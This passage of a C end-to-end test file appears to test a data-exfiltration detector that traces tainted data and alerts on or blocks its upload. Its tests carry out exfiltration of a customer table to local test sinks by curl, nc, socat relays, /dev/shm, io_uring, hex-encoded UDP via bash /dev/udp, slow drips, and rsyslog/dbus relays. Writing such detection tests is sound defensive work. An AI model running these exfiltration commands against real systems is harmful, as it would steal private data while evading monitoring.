	ASSERT_EQ(0, run("cp %s %s", e->csv, notes));
	/* the mark is stored at once, its growth at most once a second */
	for (i = 0; i < 100 && derived_taint(e, notes) != e->csv_size; i++)
		usleep(100000);
	ASSERT_EQ(e->csv_size, derived_taint(e, notes));

	ASSERT_EQ(0, daemon_stop(e->daemon));
	e->daemon = daemon_start(e->conf, e->sock, e->log);
	ASSERT_LT(0, e->daemon) {
		run("cat %s >&2", e->log);
	}

	ASSERT_EQ(0, tcp_sink(&e->th, PORT_HTTP, 1, SINK_HTTP, &sk));
	ASSERT_EQ(0, run(CURL "--data-binary @%s http://%s:%d/", notes,
			 e->th.remote4, PORT_HTTP));
	ASSERT_EQ(e->csv_size, sink_wait(&sk));

	arr = caught(_metadata, e, &e->th, PORT_HTTP, "tcp", &a);
	{
		const struct step want[] = {
			{ .via = "read", .comm = "cp", .object = e->csv,
			  .bytes = e->csv_size },
			{ .via = "file", .comm = "curl", .object = notes,
			  .bytes = e->csv_size },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	EXPECT_EQ(e->csv_size, num(a, "bytes_sent"));
	json_object_put(arr);
}

/* 5. The staged copy moved or hard-linked to a new name first. */
static void staged_renamed_upload(struct __test_metadata *_metadata,
				  struct world *e, const char *rename,
				  const char *renamed)
{
	struct json_object *arr, *a;
	char notes[PATH_LEN];
	struct sink sk;

	pathf(notes, "%s/notes.txt", e->stage);
	ASSERT_EQ(0, run("cp %s %s && %s", e->csv, notes, rename));
	/* the staged name is gone */
	ASSERT_NE(0, access(notes, F_OK));
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_HTTP, 1, SINK_HTTP, &sk));
	ASSERT_EQ(0, run(CURL "--data-binary @%s http://%s:%d/", renamed,
			 e->th.remote4, PORT_HTTP));
	ASSERT_EQ(e->csv_size, sink_wait(&sk));

	arr = caught(_metadata, e, &e->th, PORT_HTTP, "tcp", &a);
	{
		/* the file may go by the name it was staged under */
		const struct step want[] = {
			{ .via = "read", .comm = "cp", .object = e->csv,
			  .bytes = e->csv_size },
			{ .via = "file", .comm = "curl", .object = renamed,
			  .object2 = notes, .bytes = e->csv_size },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	EXPECT_EQ(e->csv_size, num(a, "bytes_sent"));
	json_object_put(arr);
}

TEST_F_TIMEOUT(flow, staged_copy_moved_then_uploaded_is_caught, TIMEOUT_S)
{
	struct world *e = &self->e;
	char renamed[PATH_LEN], mv[3 * PATH_LEN];

	NEED("curl");
	WORLD_UP(.host = HOST_BASE + 6);
	/* to another folder, under a name that does not look like data */
	pathf(renamed, "%s/holiday.jpg", e->dir);
	snprintf(mv, sizeof(mv), "mv %s/notes.txt %s", e->stage, renamed);
	staged_renamed_upload(_metadata, e, mv, renamed);
}

TEST_F_TIMEOUT(flow, staged_copy_hard_linked_then_uploaded_is_caught,
	       TIMEOUT_S)
{
	struct world *e = &self->e;
	char linked[PATH_LEN], ln[3 * PATH_LEN];

	NEED("curl");
	WORLD_UP(.host = HOST_BASE + 7);
	/* the staged name is gone: only the link is left */
	pathf(linked, "%s/linked.txt", e->stage);
	snprintf(ln, sizeof(ln), "ln %s/notes.txt %s && rm %s/notes.txt",
		 e->stage, linked, e->stage);
	staged_renamed_upload(_metadata, e, ln, linked);
}

/* 6. A staged copy split into chunks, each uploaded by its own process. */
TEST_F_TIMEOUT(flow, split_chunks_uploaded_by_separate_processes_are_caught,
	       TIMEOUT_S)
{
	struct world *e = &self->e;
	struct json_object *arr, *a;
	char bak[PATH_LEN], part[PATH_LEN];
	struct sink sk;
	int chunks;

	NEED("split nc");
	WORLD_UP(.host = HOST_BASE + 8);
	chunks = (e->csv_size + (256 << 10) - 1) / (256 << 10);
	pathf(bak, "%s/db.bak", e->stage);
	pathf(part, "%s/part.*", e->stage);
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_RAW, chunks, 0, &sk));
	ASSERT_EQ(0, run("cp %s %s && cd %s && split -b 256k db.bak part. && "
			 "for f in part.*; do nc -N %s %d < $f || exit 1; "
			 "done", e->csv, bak, e->stage, e->th.remote4,
			 PORT_RAW));
	ASSERT_EQ(e->csv_size, sink_wait(&sk));

	arr = caught(_metadata, e, &e->th, PORT_RAW, "tcp", &a);
	{
		/* the chain of one of the full 256 KiB chunks' uploader */
		const struct step want[] = {
			{ .via = "read", .comm = "cp", .object = e->csv,
			  .bytes = e->csv_size },
			{ .via = "file", .comm = "split", .object = bak,
			  .bytes = e->csv_size },
			{ .via = "file", .comm = "nc", .object = part,
			  .bytes = 256 << 10 },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	/* every chunk counts: one alert for all the uploads together */
	EXPECT_EQ(e->csv_size, num(a, "bytes_sent"));
	EXPECT_EQ(chunks, num(a, "senders"));
	json_object_put(arr);
}

/* 7. The reader forks and exits; its child sends once it is gone. */
TEST_F_TIMEOUT(flow, child_sending_after_its_reading_parent_exited_is_caught,
	       TIMEOUT_S)
{
	struct world *e = &self->e;
	struct json_object *arr, *a;
	pid_t reader, sender = 0;
	struct sink sk;
	int report[2], status;

	WORLD_UP(.host = HOST_BASE + 9);
	ASSERT_EQ(0, pipe2(report, O_CLOEXEC));
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_RAW, 1, 0, &sk));
	reader = fork();
	ASSERT_LE(0, reader);
	if (!reader) {
		pid_t me = getpid(), child;
		long len;
		char *data = read_all(e->csv, &len);

		if (!data)
			_exit(1);
		child = fork();
		if (!child) {
			/* we are adopted once the reader has exited */
			while (getppid() == me)
				usleep(10000);
			_exit(send_all(e->th.remote4, PORT_RAW, data, len) ?
			      1 : 0);
		}
		_exit(write(report[1], &child, sizeof(child)) !=
		      sizeof(child));
	}
	close(report[1]);
	ASSERT_EQ(reader, waitpid(reader, &status, 0));
	ASSERT_EQ(0, status);
	ASSERT_EQ(sizeof(sender), read(report[0], &sender, sizeof(sender)));
	close(report[0]);
	ASSERT_EQ(e->csv_size, sink_wait(&sk));
	/* adopted by us, the subreaper */
	ASSERT_EQ(sender, waitpid(sender, &status, 0));
	ASSERT_EQ(0, status);

	arr = caught(_metadata, e, &e->th, PORT_RAW, "tcp", &a);
	{
		const struct step want[] = {
			{ .via = "read", .pid = reader, .object = e->csv,
			  .bytes = e->csv_size },
			{ .via = "fork", .pid = sender, .bytes = e->csv_size },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	EXPECT_EQ(sender, num(a, "pid"));
	EXPECT_EQ(e->csv_size, num(a, "bytes_sent"));
	json_object_put(arr);
}

/*
 * 8. The reader writes into a Unix socket; a relay started beforehand,
 * in its own session, forwards it out.
 */
TEST_F_TIMEOUT(flow, relay_behind_a_unix_socket_is_caught, TIMEOUT_S)
{
	struct world *e = &self->e;
	char path[PATH_LEN], log[PATH_LEN];
	struct json_object *arr, *a;
	struct sink sk;
	pid_t relay;

	NEED("socat nc");
	WORLD_UP(.host = HOST_BASE + 10);
	pathf(path, "%s/relay.sock", e->dir);
	pathf(log, "%s/relay.log", e->dir);
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_RAW, 1, 0, &sk));
	relay = bg_start(e, log, "exec socat -u -T 30 UNIX-LISTEN:%s "
			 "TCP:%s:%d", path, e->th.remote4, PORT_RAW);
	ASSERT_LT(0, relay);
	ASSERT_EQ(0, wait_path(path, 10)) {
		run("cat %s >&2", log);
	}
	ASSERT_EQ(0, run("nc -N -U %s < %s", path, e->csv));
	ASSERT_EQ(e->csv_size, sink_wait(&sk));

	arr = caught(_metadata, e, &e->th, PORT_RAW, "tcp", &a);
	{
		const struct step want[] = {
			{ .via = "read", .comm = "nc", .object = e->csv,
			  .bytes = e->csv_size },
			{ .via = "unix", .comm = "socat", .pid = relay,
			  .bytes = e->csv_size },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	EXPECT_EQ(relay, num(a, "pid"));
	EXPECT_EQ(e->csv_size, num(a, "bytes_sent"));
	json_object_put(arr);
}

/* 9. The reader sends to 127.0.0.1, where socat forwards it out. */
TEST_F_TIMEOUT(flow, socat_forwarding_from_loopback_tcp_is_caught, TIMEOUT_S)
{
	struct world *e = &self->e;
	uint16_t port = 20000 + getpid() % 20000;
	struct json_object *arr, *a;
	char log[PATH_LEN];
	struct sink sk;
	pid_t relay;

	NEED("socat nc");
	WORLD_UP(.host = HOST_BASE + 11);
	pathf(log, "%s/relay.log", e->dir);
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_RAW, 1, 0, &sk));
	relay = bg_start(e, log, "exec socat -u -T 30 TCP-LISTEN:%d,"
			 "bind=127.0.0.1,reuseaddr TCP:%s:%d", port,
			 e->th.remote4, PORT_RAW);
	ASSERT_LT(0, relay);
	ASSERT_EQ(0, wait_listen(port, 10)) {
		run("cat %s >&2", log);
	}
	ASSERT_EQ(0, run("nc -N 127.0.0.1 %d < %s", port, e->csv));
	ASSERT_EQ(e->csv_size, sink_wait(&sk));

	arr = caught(_metadata, e, &e->th, PORT_RAW, "tcp", &a);
	{
		const struct step want[] = {
			{ .via = "read", .comm = "nc", .object = e->csv,
			  .bytes = e->csv_size },
			{ .via = "tcp-loopback", .comm = "socat", .pid = relay,
			  .bytes = e->csv_size },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	EXPECT_EQ(relay, num(a, "pid"));
	EXPECT_EQ(e->csv_size, num(a, "bytes_sent"));
	json_object_put(arr);
}

/*
 * 10. The reader puts the data into /dev/shm, with write(2) or through a
 * shared writable mapping; another process maps it and sends it. Either
 * way the hop is shared memory.
 */
static void shm_relay(struct __test_metadata *_metadata, struct world *e,
		      int by_mmap)
{
	char shm_map[PATH_LEN], shm[PATH_LEN];
	struct json_object *arr, *a;
	struct sink sk;

	helper("shm_map", shm_map);
	pathf(shm, "%s-%s", e->shm, by_mmap ? "mapped" : "written");
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_RAW, 1, 0, &sk));
	if (by_mmap) {
		ASSERT_EQ(0, run("%s fill %s %s", shm_map, e->csv, shm));
	} else {
		ASSERT_EQ(0, run("cat %s > %s", e->csv, shm));
	}
	ASSERT_EQ(0, run("%s send %s %s %d", shm_map, shm, e->th.remote4,
			 PORT_RAW));
	ASSERT_EQ(e->csv_size, sink_wait(&sk));

	arr = caught(_metadata, e, &e->th, PORT_RAW, "tcp", &a);
	{
		const struct step want[] = {
			{ .via = "read",
			  .comm = by_mmap ? "shm_map" : "cat", .object = e->csv,
			  .bytes = e->csv_size },
			{ .via = "shm", .comm = "shm_map", .object = shm },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	EXPECT_EQ(e->csv_size, num(a, "bytes_sent"));
	json_object_put(arr);
}

TEST_F_TIMEOUT(flow, written_into_dev_shm_then_mapped_and_sent_is_caught,
	       TIMEOUT_S)
{
	WORLD_UP(.host = HOST_BASE + 12);
	shm_relay(_metadata, &self->e, 0);
}

TEST_F_TIMEOUT(flow, mapped_into_dev_shm_then_mapped_and_sent_is_caught,
	       TIMEOUT_S)
{
	WORLD_UP(.host = HOST_BASE + 13);
	shm_relay(_metadata, &self->e, 1);
}

/* 11. Read and sent with io_uring operations only. */
TEST_F_TIMEOUT(flow, io_uring_read_and_send_is_caught, TIMEOUT_S)
{
	struct world *e = &self->e;
	char exe[PATH_LEN], port[8];
	const char *argv[] = { exe, e->csv, e->th.remote4, port, NULL };
	struct json_object *arr, *a;
	struct sink sk;
	pid_t pid;
	int status;

	WORLD_UP(.host = HOST_BASE + 14);
	helper("uring_exfil", exe);
	snprintf(port, sizeof(port), "%d", PORT_RAW);
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_RAW, 1, 0, &sk));
	status = spawn_wait(argv, &pid);
	if (status == 77) {
		kill(sk.pid, SIGTERM);	/* nothing will come */
		sink_wait(&sk);
		SKIP(return, "io_uring is not available here (uring_exfil's "
		     "message is above)");
	}
	ASSERT_EQ(0, status);
	ASSERT_EQ(e->csv_size, sink_wait(&sk));

	arr = caught(_metadata, e, &e->th, PORT_RAW, "tcp", &a);
	{
		const struct step want[] = {
			{ .via = "read", .comm = "uring_exfil", .pid = pid,
			  .object = e->csv,
			  .bytes = e->csv_size },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	EXPECT_EQ(pid, num(a, "pid"));
	EXPECT_EQ(e->csv_size, num(a, "bytes_sent"));
	json_object_put(arr);
}

/*
 * 12. DNS-style: hex lines, one UDP datagram each, from a shell loop
 * (bash's /dev/udp: no process per datagram). 384 KiB of the table make
 * 13108 datagrams of at most 61 bytes.
 */
TEST_F_TIMEOUT(flow, hex_lines_as_udp_datagrams_are_caught, TIMEOUT_S)
{
	const long len = 384 << 10, lines = (len + 29) / 30;
	const long bytes = len / 30 * 61 + (len % 30 ? len % 30 * 2 + 1 : 0);
	struct world *e = &self->e;
	struct json_object *arr, *a;
	struct sink sk;

	NEED("xxd bash");
	WORLD_UP(.host = HOST_BASE + 15);
	ASSERT_EQ(0, sink_start_many(&e->th, AF_INET, SOCK_DGRAM, PORT_DNS,
				     lines, 0, &sk));
	ASSERT_EQ(0, run("bash -c 'xxd -p -l %ld %s | while read -r l; do "
			 "echo \"$l\" > /dev/udp/%s/%d; done'", len, e->csv,
			 e->th.remote4, PORT_DNS));
	ASSERT_EQ(bytes, sink_wait(&sk));

	arr = caught(_metadata, e, &e->th, PORT_DNS, "udp", &a);
	{
		const struct step want[] = {
			{ .via = "read", .comm = "xxd", .object = e->csv },
			{ .via = "pipe", .comm = "bash" },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	json_object_put(arr);
}

/*
 * 13. Low and slow: 16 KiB every two seconds, each time a fresh dd | nc
 * on a new connection. Thresholds of 128 KiB: no alert after seven drips,
 * the alert right after the eighth.
 */
TEST_F_TIMEOUT(flow, drip_over_many_connections_is_caught_at_the_threshold,
	       TIMEOUT_S)
{
	const int drip = 16 << 10, drips = (128 << 10) / drip;
	struct world *e = &self->e;
	struct json_object *arr, *a;
	struct sink sk;
	int i;

	NEED("dd nc");
	WORLD_UP(.host = HOST_BASE + 16, .read_threshold = 128 << 10,
		 .send_threshold = 128 << 10);
	for (i = 0; i < drips; i++) {
		if (i) {
			sleep(2);
			arr = alerts(e);
			ASSERT_NE(NULL, arr);
			/* below the threshold, whatever the total so far */
			ASSERT_EQ(0, json_object_array_length(arr)) {
				TH_LOG("alert after %d drips of %d", i, drip);
				dump(e);
			}
			json_object_put(arr);
		}
		ASSERT_EQ(0, tcp_sink(&e->th, PORT_RAW, 1, 0, &sk));
		ASSERT_EQ(0, run("dd if=%s bs=%d skip=%d count=1 status=none | "
				 "nc -N %s %d", e->csv, drip, i,
				 e->th.remote4, PORT_RAW));
		ASSERT_EQ(drip, sink_wait(&sk));
	}

	arr = caught(_metadata, e, &e->th, PORT_RAW, "tcp", &a);
	{
		const struct step want[] = {
			{ .via = "read", .comm = "dd", .object = e->csv,
			  .bytes = drip },
			{ .via = "pipe", .comm = "nc", .bytes = drip },
		};

		expect_chain(_metadata, a, want, ARRAY_SIZE(want));
	}
	EXPECT_EQ(drips * drip, num(a, "bytes_sent"));
	EXPECT_EQ(drips, num(a, "senders"));
	json_object_put(arr);
}

/* 14. A backup to another local folder, never sent anywhere. */
TEST_F_TIMEOUT(quiet, copy_to_another_local_directory_is_quiet, TIMEOUT_S)
{
	struct world *e = &self->e;
	char backup[PATH_LEN];

	WORLD_UP(.host = HOST_BASE + 17);
	ASSERT_EQ(0, run("mkdir %s/backup && cp %s %s/backup/", e->dir,
			 e->csv, e->dir));
	pathf(backup, "%s/backup/customers.csv", e->dir);
	ASSERT_EQ(0, run("cmp -s %s %s", e->csv, backup));
	quiet(_metadata, e);
	/* it was seen: the copy is derived data, all of it */
	EXPECT_EQ(e->csv_size, derived_taint(e, backup));
}

/*
 * 15. A big upload that has nothing to do with the table, while another
 * process (not its ancestor) is reading the table.
 */
TEST_F_TIMEOUT(quiet, unrelated_upload_while_the_table_is_read_is_quiet,
	       TIMEOUT_S)
{
	struct world *e = &self->e;
	struct sink sk;

	NEED("nc");
	WORLD_UP(.host = HOST_BASE + 18);
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_RAW, 1, 0, &sk));
	/* dd stays blocked on the full pipe while the upload runs */
	ASSERT_EQ(0, run("dd if=%s bs=64k status=none | "
			 "(sleep 2; cat > /dev/null) & "
			 "head -c %d /dev/zero | nc -N %s %d; wait",
			 e->csv, 4 << 20, e->th.remote4, PORT_RAW));
	ASSERT_EQ(4 << 20, sink_wait(&sk));
	quiet(_metadata, e);
}

/* 16. A staged copy sent to a host of [network] internal. */
TEST_F_TIMEOUT(quiet, derived_file_sent_to_an_internal_host_is_quiet,
	       TIMEOUT_S)
{
	struct world *e = &self->e;
	char internal[64], copy[PATH_LEN];
	struct sink sk;

	NEED("nc");
	snprintf(internal, sizeof(internal), "10.0.0.0/8, 198.18.%d.0/24",
		 HOST_BASE + 19);
	WORLD_UP(.host = HOST_BASE + 19, .internal = internal);
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_RAW, 1, 0, &sk));
	pathf(copy, "%s/crm-backup.csv", e->stage);
	ASSERT_EQ(0, run("cp %s %s && nc -N %s %d < %s", e->csv, copy,
			 e->th.remote4, PORT_RAW, copy));
	ASSERT_EQ(e->csv_size, sink_wait(&sk));
	quiet(_metadata, e);
	/* what was sent was the watched data, and known to be */
	EXPECT_EQ(e->csv_size, derived_taint(e, copy));
}

/*
 * 17. Whoever read all of the table sends 2 KiB: a report, not a theft.
 * Prevent mode refuses it all the same, as its rule says: the reader holds
 * more than read_threshold of watched data (docs/prevent.md, "Tests").
 */
TEST_F_TIMEOUT(quiet, reader_sending_2k, TIMEOUT_S)
{
	struct world *e = &self->e;
	struct json_object *arr;
	struct sink sk;
	pid_t pid;
	int status;

	WORLD_UP(.host = HOST_BASE + 20);
	/* refused, the connect() must fail with EPERM, not for want of one */
	if (!e->mode)
		ASSERT_EQ(0, tcp_sink(&e->th, PORT_RAW, 1, 0, &sk));
	pid = fork();
	ASSERT_LE(0, pid);
	if (!pid) {
		long len;
		char *data = read_all(e->csv, &len);

		if (!data || len != e->csv_size)
			_exit(1);
		_exit(send_all(e->th.remote4, PORT_RAW, data, 2048) ?
		      (errno == EPERM ? 2 : 3) : 0);
	}
	ASSERT_EQ(pid, waitpid(pid, &status, 0));
	if (!e->mode) {
		ASSERT_EQ(0, status);
		ASSERT_EQ(2048, sink_wait(&sk));
		quiet(_metadata, e);
		return;
	}
	ASSERT_TRUE(WIFEXITED(status));
	ASSERT_EQ(2, WEXITSTATUS(status));
	ASSERT_EQ(0, wait_alert(e, e->th.remote4)) {
		dump(e);
	}
	arr = alerts(e);
	ASSERT_NE(NULL, arr);
	ASSERT_EQ(1, json_object_array_length(arr));
	EXPECT_STREQ("blocked", str(json_object_array_get_idx(arr, 0),
				    "action"));
	EXPECT_EQ(0, num(json_object_array_get_idx(arr, 0), "bytes_sent"));
	json_object_put(arr);
}

/* 18. A compressed copy left in /tmp; then someone else uploads. */
TEST_F_TIMEOUT(quiet, gzip_copy_then_unrelated_upload_is_quiet, TIMEOUT_S)
{
	struct world *e = &self->e;
	char gz[PATH_LEN];
	struct sink sk;
	struct stat st;

	NEED("gzip nc");
	WORLD_UP(.host = HOST_BASE + 21);
	pathf(gz, "%s/db.gz", e->stage);
	ASSERT_EQ(0, run("gzip -c %s > %s", e->csv, gz));
	ASSERT_EQ(0, stat(gz, &st));
	ASSERT_LT(0, st.st_size);
	ASSERT_EQ(0, tcp_sink(&e->th, PORT_RAW, 1, 0, &sk));
	ASSERT_EQ(0, run("head -c %d /dev/urandom | nc -N %s %d", 1 << 20,
			 e->th.remote4, PORT_RAW));
	ASSERT_EQ(1 << 20, sink_wait(&sk));
	quiet(_metadata, e);
	/* the compressed copy carries as much taint as it has bytes */
	EXPECT_EQ(st.st_size, derived_taint(e, gz));
}

/*
 * No taint explosion. A private rsyslogd forwards everything logged on
 * its socket to host 1 and writes it to a file; a private dbus-daemon has
 * a monitor whose output goes to a file and to host 2. A process that
 * read the whole table logs 512 KiB and sends 384 KiB of it as dbus
 * signals: both relays carry it all out, far above the thresholds.
 * opaque: rsyslogd and dbus-daemon are opaque (the default), so neither
 * takes taint: no alert, and their files are no derived data. Otherwise
 * ([flow] opaque empty), both relays become tainted and each host gets
 * its alert: the setup really would show an explosion.
 */
static void syslog_and_dbus(struct __test_metadata *_metadata,
			    struct world *e, int opaque)
{
	const long logged = 512 << 10, bus_msgs = 48, bus_msg = 8 << 10;
	char rsyslogd[PATH_LEN], conf[PATH_LEN], logsock[PATH_LEN];
	char busconf[PATH_LEN], bussock[PATH_LEN], buslog[PATH_LEN];
	char text[2048], script[2048], bglog[PATH_LEN];
	char syslog_file[PATH_LEN], bus_file[PATH_LEN];
	struct sink syslog_sink, bus_sink;
	pid_t rsyslog, bus, monitor, pid;
	int status, refused = e->mode && !opaque;
	int64_t got;

	which("rsyslogd", rsyslogd);
	pathf(conf, "%s/rsyslog.conf", e->dir);
	pathf(logsock, "%s/log.sock", e->dir);
	pathf(busconf, "%s/bus.conf", e->dir);
	pathf(bussock, "%s/bus.sock", e->dir);
	pathf(buslog, "%s/dbus-daemon.log", e->dir);
	pathf(bglog, "%s/relays.log", e->dir);
	pathf(syslog_file, "%s/syslog.txt", e->dir);
	pathf(bus_file, "%s/bus.txt", e->dir);

	/* everything on our socket goes to host 1, unthrottled, at once */
	snprintf(text, sizeof(text),
		 "global(workDirectory=\"%s\" maxMessageSize=\"8k\")\n"
		 "module(load=\"imuxsock\" SysSock.Use=\"off\")\n"
		 "input(type=\"imuxsock\" Socket=\"%s\" "
		 "RateLimit.Interval=\"0\")\n"
		 "main_queue(queue.type=\"Direct\")\n"
		 "*.* action(type=\"omfwd\" target=\"%s\" port=\"%d\" "
		 "protocol=\"tcp\")\n"
		 "*.* action(type=\"omfile\" file=\"%s\")\n",
		 e->dir, logsock, e->th.remote4, PORT_SYSLOG, syslog_file);
	ASSERT_EQ(0, write_file(conf, text));
	if (run("out=$(%s -N1 -f %s 2>&1) || { echo \"$out\" >&2; false; }",
		rsyslogd, conf))
		SKIP(return, "rsyslogd cannot run here (its message is "
		     "above)");
	snprintf(text, sizeof(text),
		 "<!DOCTYPE busconfig PUBLIC \"-//freedesktop//DTD D-Bus Bus "
		 "Configuration 1.0//EN\"\n"
		 " \"http://www.freedesktop.org/standards/dbus/1.0/"
		 "busconfig.dtd\">\n"
		 "<busconfig>\n"
		 "  <type>session</type>\n"
		 "  <listen>unix:path=%s</listen>\n"
		 "  <auth>EXTERNAL</auth>\n"
		 "  <policy context=\"default\">\n"
		 "    <allow send_destination=\"*\" eavesdrop=\"true\"/>\n"
		 "    <allow eavesdrop=\"true\"/>\n"
		 "    <allow own=\"*\"/>\n"
		 "  </policy>\n"
		 "</busconfig>\n", bussock);
	ASSERT_EQ(0, write_file(busconf, text));

	ASSERT_EQ(0, tcp_sink(&e->th, PORT_SYSLOG, 1, 0, &syslog_sink));
	ASSERT_EQ(0, tcp_sink(&e->th2, PORT_BUS, 1, 0, &bus_sink));
	rsyslog = bg_start(e, bglog, "exec %s -n -f %s -i %s/rsyslogd.pid",
			   rsyslogd, conf, e->dir);
	ASSERT_LT(0, rsyslog);
	ASSERT_EQ(0, wait_path(logsock, 10)) {
		run("cat %s >&2", bglog);
	}
	bus = bg_start(e, buslog, "exec dbus-daemon --config-file=%s "
		       "--nofork --nopidfile", busconf);
	ASSERT_LT(0, bus);
	ASSERT_EQ(0, wait_path(bussock, 10)) {
		run("cat %s >&2", buslog);
	}
	monitor = bg_start(e, bglog, "dbus-monitor --address unix:path=%s | "
			   "tee %s | nc -N %s %d", bussock, bus_file,
			   e->th2.remote4, PORT_BUS);
	ASSERT_LT(0, monitor);
	ASSERT_EQ(0, wait_text(buslog, "became a monitor", 10)) {
		run("cat %s %s >&2", buslog, bglog);
	}

	/* the tainted process: it read the table, then a shell runs on */
	snprintf(script, sizeof(script),
		 "head -c %ld %s | logger -u %s -t crm-export || exit 1; "
		 "i=0; while [ $i -lt %ld ]; do "
		 "dbus-send --bus=unix:path=%s --type=signal /org/exfilmon/Crm "
		 "org.exfilmon.Crm.Export string:\"$(dd if=%s bs=%ld "
		 "skip=$i count=1 status=none)\" || exit 1; "
		 "i=$((i + 1)); done",
		 logged, e->csv, logsock, bus_msgs, bussock, e->csv, bus_msg);
	pid = fork();
	ASSERT_LE(0, pid);
	if (!pid) {
		long len;

		if (!read_all(e->csv, &len))
			_exit(1);
		execl("/bin/sh", "sh", "-c", script, (char *)NULL);
		_exit(127);
	}
	ASSERT_EQ(pid, waitpid(pid, &status, 0));
	ASSERT_EQ(0, status);

	/*
	 * The relays end and flush: what they carried out is counted. In
	 * prevent mode, relays that are not opaque hold the data they
	 * relay, and are refused: nothing arrives.
	 */
	bg_stop(e, rsyslog);
	got = sink_wait(&syslog_sink);
	ASSERT_TRUE(refused ? got == 0 : got >= logged) {
		TH_LOG("syslog's sink got %lld", (long long)got);
		run("cat %s >&2", bglog);
	}
	/*
	 * dbus-monitor's own first lines (NameAcquired, NameLost: 364 B
	 * measured) go out before the theft starts, untainted; each of the
	 * thief's messages is 8 KiB.
	 */
	bg_stop(e, bus);
	got = sink_wait(&bus_sink);
	ASSERT_TRUE(refused ? got < 512 : got >= bus_msgs * bus_msg) {
		TH_LOG("the bus's sink got %lld", (long long)got);
		run("cat %s %s >&2", buslog, bglog);
	}
	bg_stop(e, monitor);

	if (opaque) {
		quiet(_metadata, e);
		/* what the relays wrote down is no derived data either */
		EXPECT_EQ(-1, derived_taint(e, syslog_file));
		EXPECT_EQ(-1, derived_taint(e, bus_file));
	} else {
		struct json_object *arr, *a;
		char buf[4096];
		const struct step via_syslog[] = {
			{ .via = "read", .pid = pid, .object = e->csv,
			  .bytes = e->csv_size },
			{ .via = "unix", .comm = "rsyslogd", .pid = rsyslog },
		};
		const struct step via_bus[] = {
			{ .via = "read", .pid = pid, .object = e->csv,
			  .bytes = e->csv_size },
			{ .via = "unix", .comm = "dbus-daemon", .pid = bus },
			{ .via = "unix", .comm = "dbus-monitor" },
			{ .via = "pipe", .comm = "tee" },
			{ .via = "pipe", .comm = "nc" },
		};

		ASSERT_EQ(0, wait_alert(e, e->th.remote4)) {
			dump(e);
		}
		ASSERT_EQ(0, wait_alert(e, e->th2.remote4)) {
			dump(e);
		}
		sleep(SETTLE_S);
		arr = alerts(e);
		ASSERT_NE(NULL, arr);
		ASSERT_EQ(2, json_object_array_length(arr)) {
			dump(e);
		}
		a = alert_for(arr, e->th.remote4);
		TH_LOG("alert: %s", chain_text(a, buf, sizeof(buf)));
		expect_chain(_metadata, a, via_syslog, ARRAY_SIZE(via_syslog));
		EXPECT_STREQ(refused ? "blocked" : "detected", str(a, "action"));
		if (refused)
			EXPECT_EQ(0, num(a, "bytes_sent"));
		a = alert_for(arr, e->th2.remote4);
		TH_LOG("alert: %s", chain_text(a, buf, sizeof(buf)));
		expect_chain(_metadata, a, via_bus, ARRAY_SIZE(via_bus));
		EXPECT_STREQ(refused ? "blocked" : "detected", str(a, "action"));
		if (refused)
			EXPECT_EQ(0, num(a, "bytes_sent"));
		json_object_put(arr);
		/* and what they wrote down is derived data */
		EXPECT_LT(0, derived_taint(e, syslog_file));
		EXPECT_LT(0, derived_taint(e, bus_file));
	}
}

TEST_F_TIMEOUT(quiet, syslog_and_dbus_relaying_a_tainted_process_stay_quiet,
	       TIMEOUT_S)
{
	NEED("rsyslogd logger dbus-daemon dbus-send dbus-monitor nc");
	WORLD_UP(.host = HOST_BASE + 22, .two_hosts = 1);
	syslog_and_dbus(_metadata, &self->e, 1);
}

TEST_F_TIMEOUT(flow, syslog_and_dbus_not_opaque_are_caught_relaying,
	       TIMEOUT_S)
{
	NEED("rsyslogd logger dbus-daemon dbus-send dbus-monitor nc");
	WORLD_UP(.host = HOST_BASE + 24, .two_hosts = 1,
		 .extra = "[flow]\nopaque =\n");
	syslog_and_dbus(_metadata, &self->e, 0);
}

/*
 * The same in prevent mode: both relays are refused, and nothing arrives.
 * With read_threshold = 1 B, as for the corpus of e2e/test_prevent: a
 * relay may otherwise send up to the threshold before it holds that much
 * (docs/prevent.md, "Limits").
 */
TEST_F_TIMEOUT(flow, syslog_and_dbus_not_opaque_are_refused_relaying,
	       TIMEOUT_S)
{
	NEED("rsyslogd logger dbus-daemon dbus-send dbus-monitor nc");
	self->e.mode = "prevent";
	WORLD_UP(.host = HOST_BASE + 27, .two_hosts = 1, .read_threshold = 1,
		 .extra = "[flow]\nopaque =\n");
	syslog_and_dbus(_metadata, &self->e, 0);
}

TEST_HARNESS_MAIN
